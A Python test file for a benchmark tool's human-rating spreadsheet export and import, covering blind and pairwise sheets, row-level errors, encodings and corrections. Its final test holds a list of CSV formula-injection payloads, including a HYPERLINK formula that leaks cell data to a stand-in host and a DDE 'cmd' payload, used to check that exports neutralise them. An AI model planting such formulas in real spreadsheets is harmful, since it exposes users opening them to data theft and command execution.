"""Human rating sheets: export (plain and blind), import of blind, plain and pairwise sheets, and every error."""

from __future__ import annotations

import codecs
import csv
import io
import json

import pytest

from seabench.store import Store

from .fakes import FakeServer

ENV = {"OPENAI_API_KEY": "k"}


@pytest.fixture
def db(tmp_path, cli):
    bench = tmp_path / "b.jsonl"
    rows = [
        {
            "question_id": "q1",
            "category": "natural-question",
            "lang": "my",
            "turns": ["မုန့်ဟင်းခါးကို ဘာလို့ မနက်စာ စားကြတာလဲ", "ဘယ်ဆိုင် ကောင်းလဲ"],
        },
        {"question_id": "q2", "category": "safety", "lang": "km", "turns": ["តើលេងល្បែងភ្នាល់អនឡាញ ធ្វើយ៉ាងម៉េច?"]},
    ]
    bench.write_text("\n".join(json.dumps(r, ensure_ascii=False) for r in rows), encoding="utf-8")
    path = tmp_path / "s.db"
    with FakeServer("openai", reply=lambda body: "ဖြေကြားချက်, with a comma") as server:
        for model in ("model-a", "model-b"):
            result = cli(
                "generate",
                "--model",
                f"openai:{model}",
                "--name",
                model,
                "--bench",
                bench,
                "--db",
                path,
                "--base-url",
                server.url,
                env=ENV,
            )
            assert result.exit_code == 0
    return path


def _read(path):
    with open(path, encoding="utf-8-sig", newline="") as f:
        return list(csv.DictReader(f))


def _write(path, header, rows, *, bom=True, crlf=True):
    buf = io.StringIO()
    writer = csv.writer(buf, lineterminator="\r\n" if crlf else "\n")
    writer.writerow(header)
    writer.writerows(rows)
    path.write_bytes((codecs.BOM_UTF8 if bom else b"") + buf.getvalue().encode("utf-8"))
    return path


def test_blind_round_trip(cli, db, tmp_path):
    sheet = tmp_path / "sheet.csv"
    result = cli("human", "export", "--model", "model-a,model-b", "--out", sheet, "--blind", "--db", db)
    assert result.exit_code == 0 and "wrote 6 rows" in result.output
    raw = sheet.read_bytes()
    assert raw.startswith(codecs.BOM_UTF8)
    assert b"model-a" not in raw and b"model-b" not in raw  # names are hidden
    rows = _read(sheet)
    assert set(rows[0]) >= {"item_id", "question", "answer", "annotator", "score", "comment"} and "model" not in rows[0]
    turn2 = next(r for r in rows if r["turn"] == "2")
    assert "User: မုန့်ဟင်းခါး" in turn2["context"] and "Assistant: ဖြေကြားချက်" in turn2["context"]
    # Re-exporting gives the same opaque ids.
    cli("human", "export", "--model", "model-a,model-b", "--out", tmp_path / "again.csv", "--blind", "--db", db)
    assert {r["item_id"] for r in _read(tmp_path / "again.csv")} == {r["item_id"] for r in rows}
    for i, row in enumerate(rows):
        row["annotator"], row["score"], row["comment"] = "nilar", str(3 + i), "ကောင်းတယ်, but short"
    filled = tmp_path / "filled.csv"
    with open(filled, "w", encoding="utf-8-sig", newline="") as f:  # as Excel saves it: BOM and CRLF
        writer = csv.DictWriter(f, fieldnames=list(rows[0]), lineterminator="\r\n")
        writer.writeheader()
        writer.writerows(rows)
    result = cli("human", "import", filled, "--db", db)
    assert result.exit_code == 0, result.stderr
    assert result.stderr.strip() == "imported 6 blind ratings from 1 annotator (6 new): nilar"
    with Store(db) as store:
        ratings = store.ratings()
        items = store.human_items()
    assert len(ratings) == 6 and {r.model for r in ratings} == {"model-a", "model-b"}
    for row in rows:  # every score landed on the answer its item id stands for
        it = items[row["item_id"]]
        (match,) = [
            r
            for r in ratings
            if (r.bench, r.question_id, r.turn, r.model) == (it.bench, it.question_id, it.turn, it.model)
        ]
        assert match.score == float(row["score"]) and match.comment == "ကောင်းတယ်, but short"
    assert cli("human", "import", filled, "--db", db).stderr.strip().endswith("(0 new): nilar")  # idempotent


def test_plain_sheet_turn_defaults_to_one(cli, db, tmp_path):
    sheet = _write(
        tmp_path / "plain.csv",
        ["question_id", "model", "annotator", "score", "comment"],
        [["q1", "model-a", "ann", "7", ""], ["q2", "model-b", "ann", "4.5", "ok, fine"]],
    )
    result = cli("human", "import", sheet, "--db", db)
    assert result.exit_code == 0, result.stderr
    with Store(db) as store:
        assert [(r.question_id, r.turn, r.score) for r in store.ratings()] == [("q1", 1, 7.0), ("q2", 1, 4.5)]


def test_pairwise_sheet(cli, db, tmp_path):
    sheet = _write(
        tmp_path / "pair.csv",
        ["question_id", "turn", "model_a", "model_b", "annotator", "winner"],
        [["q1", "2", "model-a", "model-b", "ann", "B"], ["q2", "1", "model-a", "model-b", "ann", "tie"]],
        bom=False,
        crlf=False,
    )
    result = cli("human", "import", sheet, "--db", db)
    assert result.exit_code == 0, result.stderr
    with Store(db) as store:
        assert [(p.question_id, p.turn, p.winner) for p in store.pair_ratings()] == [("q1", 2, "B"), ("q2", 1, "tie")]


PLAIN = ["question_id", "turn", "model", "annotator", "score"]
ERRORS = [
    ("missing column", ["question_id", "model", "annotator"], [["q1", "model-a", "x"]], 1, "missing column(s) score"),
    ("non-numeric", PLAIN, [["q1", "1", "model-a", "ann", "great"]], 2, "score 'great' is not a number"),
    ("out of range", PLAIN, [["q1", "1", "model-a", "ann", "11"]], 2, "score 11 is outside 1–10"),
    ("zero", PLAIN, [["q1", "1", "model-a", "ann", "0"]], 2, "score 0 is outside 1–10"),
    ("unknown question", PLAIN, [["q9", "1", "model-a", "ann", "5"]], 2, "unknown question_id 'q9'"),
    ("unknown model", PLAIN, [["q1", "1", "model-z", "ann", "5"]], 2, "unknown model 'model-z'"),
    (
        "unknown turn",
        PLAIN,
        [["q2", "2", "model-a", "ann", "5"]],
        2,
        "turn must be a whole number from 1 to 1 for question 'q2', not '2'",
    ),
    (
        "conflict",
        PLAIN,
        [["q1", "1", "model-a", "ann", "5"], ["q2", "1", "model-a", "ann", "6"], ["q1", "1", "model-a", "ann", "8"]],
        4,
        "annotator 'ann' already rated this item differently on row 2 (5.0 vs 8.0)",
    ),
    ("no ratings", PLAIN, [["q1", "1", "model-a", "", ""]], 2, "no rating rows"),
    ("no annotator", PLAIN, [["q1", "1", "model-a", "", "5"]], 2, "annotator is empty"),
    (
        "bad winner",
        ["question_id", "turn", "model_a", "model_b", "annotator", "winner"],
        [["q1", "1", "model-a", "model-b", "ann", "both"]],
        2,
        "winner must be A, B or tie, not 'both'",
    ),
    ("unknown item", ["item_id", "annotator", "score"], [["it-nope", "ann", "5"]], 2, "unknown item_id 'it-nope'"),
]


@pytest.mark.parametrize("name,header,rows,line,message", ERRORS, ids=[e[0] for e in ERRORS])
def test_every_error_names_the_row_and_imports_nothing(cli, db, tmp_path, name, header, rows, line, message):
    # A valid row first (where it makes sense), to show that a file's good rows are not imported either.
    good = [["q1", "1", "model-b", "ann", "6"]] if header == PLAIN and name not in ("conflict", "no ratings") else []
    sheet = _write(tmp_path / "bad.csv", header, good + rows)
    line += len(good)
    result = cli("human", "import", sheet, "--db", db)
    assert result.exit_code == 2
    first = result.stderr.splitlines()[0]
    assert first.startswith(f"error: {sheet}:{line}: {message}"), first
    assert "Traceback" not in result.stderr
    with Store(db) as store:
        assert store.ratings() == [] and store.pair_ratings() == []  # nothing from the file, not even its good rows


def test_ragged_row(cli, db, tmp_path):
    sheet = tmp_path / "ragged.csv"
    sheet.write_text("question_id,turn,model,annotator,score\nq1,1,model-a,ann,5\nq2,1,model-a,ann\n", encoding="utf-8")
    result = cli("human", "import", sheet, "--db", db)
    assert result.exit_code == 2 and result.stderr.startswith(f"error: {sheet}:3: row has 4 fields, the header has 5")


def test_changed_score_for_a_stored_rating_is_refused(cli, db, tmp_path):
    first = _write(tmp_path / "a.csv", PLAIN, [["q1", "1", "model-a", "ann", "5"]])
    assert cli("human", "import", first, "--db", db).exit_code == 0
    second = _write(tmp_path / "b.csv", PLAIN, [["q1", "1", "model-a", "ann", "9"]])
    result = cli("human", "import", second, "--db", db)
    assert result.exit_code == 2 and "already has 5.0 for this item in the store, not 9.0" in result.stderr


def test_blind_pairwise_round_trip(cli, db, tmp_path):
    sheet = tmp_path / "pairs.csv"
    result = cli(
        "human",
        "export",
        "--model",
        "model-a,model-b",
        "--pairwise",
        "--blind",
        "--out",
        sheet,
        "--db",
        db,
        "--seed",
        "3",
    )
    assert result.exit_code == 0 and "wrote 3 rows" in result.output  # q1 turns 1 and 2, q2 turn 1
    raw = sheet.read_bytes()
    assert b"model-a" not in raw and b"model-b" not in raw
    rows = _read(sheet)
    assert (
        set(rows[0]) >= {"item_id", "answer_a", "answer_b", "context_a", "context_b", "winner"}
        and "model_a" not in rows[0]
    )
    with Store(db) as store:
        items = store.human_pair_items()
    assert {items[r["item_id"]].model_a for r in rows} == {"model-a", "model-b"}  # A is not always the same model
    for row, choice in zip(rows, ["A", "B", "tie"]):
        row["annotator"], row["winner"] = "somchai", choice
    filled = tmp_path / "filled.csv"
    with open(filled, "w", encoding="utf-8-sig", newline="") as f:
        writer = csv.DictWriter(f, fieldnames=list(rows[0]), lineterminator="\r\n")
        writer.writeheader()
        writer.writerows(rows)
    result = cli("human", "import", filled, "--db", db)
    assert result.exit_code == 0, result.stderr
    assert result.stderr.startswith("imported 3 blind pairwise ratings from 1 annotator")
    with Store(db) as store:
        stored = {(p.question_id, p.turn): p for p in store.pair_ratings()}
    for row, choice in zip(rows, ["A", "B", "tie"]):
        it = items[row["item_id"]]
        p = stored[(it.question_id, it.turn)]
        assert (p.model_a, p.model_b, p.winner) == (
            it.model_a,
            it.model_b,
            choice,
        )  # the choice lands on the models as they were shown


def test_plain_pairwise_sheet_names_the_models(cli, db, tmp_path):
    sheet = tmp_path / "pairs.csv"
    assert cli("human", "export", "--model", "model-a,model-b", "--pairwise", "--out", sheet, "--db", db).exit_code == 0
    rows = _read(sheet)
    assert {(r["model_a"], r["model_b"]) for r in rows} == {("model-a", "model-b")}
    assert cli("human", "export", "--model", "model-a", "--pairwise", "--out", sheet, "--db", db).exit_code == 2


def test_an_exported_sheet_with_control_characters_always_re_imports(cli, tmp_path):
    bench = tmp_path / "b.jsonl"
    bench.write_text(
        json.dumps({"question_id": "q1", "category": "safety", "lang": "th", "turns": ["สวัสดี"]}, ensure_ascii=False),
        encoding="utf-8",
    )
    db = tmp_path / "s.db"
    with FakeServer("openai", reply=lambda body: "an answer with a NUL\x00 and a bell\x07 in it") as server:
        assert (
            cli(
                "generate",
                "--model",
                "openai:m",
                "--name",
                "m",
                "--bench",
                bench,
                "--db",
                db,
                "--base-url",
                server.url,
                env=ENV,
            ).exit_code
            == 0
        )
    sheet = tmp_path / "sheet.csv"
    assert cli("human", "export", "--model", "m", "--out", sheet, "--blind", "--db", db).exit_code == 0
    assert b"\x00" not in sheet.read_bytes() and "NUL\u2400" in sheet.read_text(encoding="utf-8-sig")
    rows = _read(sheet)
    rows[0]["annotator"], rows[0]["score"] = "somchai", "7"
    filled = _write(tmp_path / "filled.csv", list(rows[0]), [list(rows[0].values())])
    result = cli("human", "import", filled, "--db", db)
    assert result.exit_code == 0, result.stderr


def test_a_semicolon_sheet_is_read(cli, db, tmp_path):
    sheet = tmp_path / "sheet.csv"
    assert cli("human", "export", "--model", "model-a", "--out", sheet, "--db", db).exit_code == 0
    rows = _read(sheet)
    with open(tmp_path / "semi.csv", "w", encoding="utf-8-sig", newline="") as f:  # Excel in a comma-decimal locale
        writer = csv.DictWriter(f, fieldnames=list(rows[0]), delimiter=";")
        writer.writeheader()
        for row in rows:
            writer.writerow({**row, "annotator": "an", "score": "6"})
    result = cli("human", "import", tmp_path / "semi.csv", "--db", db)
    assert result.exit_code == 0 and "imported 3 plain ratings" in result.stderr, result.stderr


def test_a_corrected_rating_replaces_the_old_one_only_when_asked_and_is_recorded(cli, db, tmp_path):
    sheet = tmp_path / "sheet.csv"
    assert cli("human", "export", "--model", "model-a", "--out", sheet, "--db", db).exit_code == 0
    rows = _read(sheet)
    first = _write(
        tmp_path / "first.csv", list(rows[0]), [list({**r, "annotator": "an", "score": "6"}.values()) for r in rows]
    )
    assert cli("human", "import", first, "--db", db).exit_code == 0
    fixed = [{**r, "annotator": "an", "score": "6"} for r in rows]
    fixed[0]["score"] = "9"
    second = _write(tmp_path / "second.csv", list(rows[0]), [list(r.values()) for r in fixed])
    refused = cli("human", "import", second, "--db", db)
    assert refused.exit_code == 2 and "import with --replace to correct it" in refused.stderr
    result = cli("human", "import", second, "--db", db, "--replace")
    assert (
        result.exit_code == 0
        and "(0 new)" in result.stderr
        and "1 corrected rating replaced earlier ones" in result.stderr
    )
    with Store(db) as store:
        scores = sorted(r.score for r in store.ratings())
        history = store.db.execute("SELECT old_value, new_value, source_file FROM human_corrections").fetchall()
    assert scores == [6.0, 6.0, 9.0] and history == [("6", "9", str(second))]


PAYLOADS = ['=HYPERLINK("http://x/?leak="&A1,"x")', "@SUM(1+9)*cmd|' /C calc'!A0", "+1+1", "-1+1", "\t=1+1"]


def test_formula_like_text_is_inert_in_every_sheet_and_csv_and_still_imports(cli, tmp_path):
    bench = tmp_path / "b.jsonl"
    bench.write_text(
        "\n".join(
            json.dumps({"question_id": f"q{i}", "category": "safety", "lang": "th", "turns": [p]})
            for i, p in enumerate(PAYLOADS)
        ),
        encoding="utf-8",
    )
    db = tmp_path / "s.db"
    with FakeServer(
        "openai", reply=lambda body: body["messages"][-1]["content"]
    ) as server:  # the answer echoes the attack
        for name in ("=cmd", "plain"):
            assert (
                cli(
                    "generate",
                    "--model",
                    "openai:m",
                    "--name",
                    name,
                    "--bench",
                    bench,
                    "--db",
                    db,
                    "--base-url",
                    server.url,
                    env=ENV,
                ).exit_code
                == 0
            )
    sheets = {}
    for label, args in (("plain", ()), ("blind", ("--blind",))):
        sheets[label] = tmp_path / f"{label}.csv"
        assert cli("human", "export", "--model", "=cmd", "--out", sheets[label], *args, "--db", db).exit_code == 0
    sheets["pairwise"] = tmp_path / "pairwise.csv"
    assert (
        cli("human", "export", "--model", "=cmd,plain", "--pairwise", "--out", sheets["pairwise"], "--db", db).exit_code
        == 0
    )
    answers_csv = cli("answers", "--format", "csv", "--db", db).stdout
    for text in [answers_csv, *(s.read_text(encoding="utf-8-sig") for s in sheets.values())]:
        for row in csv.reader(io.StringIO(text)):
            live = [cell for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not _number(cell)]
            assert live == [], live
    assert "'=HYPERLINK" in answers_csv  # shown as text, not dropped
    rows = _read(sheets["plain"])  # the apostrophe does not stop the sheet coming back in
    for row in rows:
        row["annotator"], row["score"] = "nok", "6"
    filled = _write(tmp_path / "filled.csv", list(rows[0]), [list(r.values()) for r in rows])
    result = cli("human", "import", filled, "--db", db)
    assert result.exit_code == 0, result.stderr
    with Store(db) as store:
        assert {r.model for r in store.ratings()} == {"=cmd"}


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True
